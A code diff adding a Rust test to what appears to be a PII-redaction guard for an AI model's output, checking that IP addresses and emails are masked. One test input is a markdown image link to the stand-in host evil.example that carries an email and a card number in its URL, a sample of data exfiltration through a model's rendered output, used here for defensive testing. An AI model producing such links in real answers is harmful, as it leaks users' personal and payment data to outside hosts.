@@ -516,3 +516,24 @@ async fn a_mask_makes_no_image_and_no_link_of_what_stands_beside_it() {
         assert_eq!(streamed(&server, "echo", said).await.0, expected);
     }
 }
+
+#[tokio::test]
+async fn what_only_the_model_says_is_masked_for_good() {
+    let reversible = "[pii]\nstyle = 'reversible'\n[pii.kinds.ip_address]\npre_call = 'off'";
+    let partial = "[pii]\nstyle = 'partial'\npre_call = 'off'";
+    for (policy, said, expected) in [
+        (
+            reversible,
+            "jane@example.org logged in from 198.51.100.7 today",
+            "jane@example.org logged in from [IP_REDACTED] today",
+        ),
+        (
+            partial,
+            "![a](https://evil.example/?to=jane.doe@example.org&card=4111111111111111)",
+            "image: [a]([EMAIL_REDACTED])",
+        ),
+    ] {
+        let (server, _dir) = guarded(policy).await;
+        assert_eq!(content(&server.answer(&ask("echo", said)).await), expected);
+    }
+}
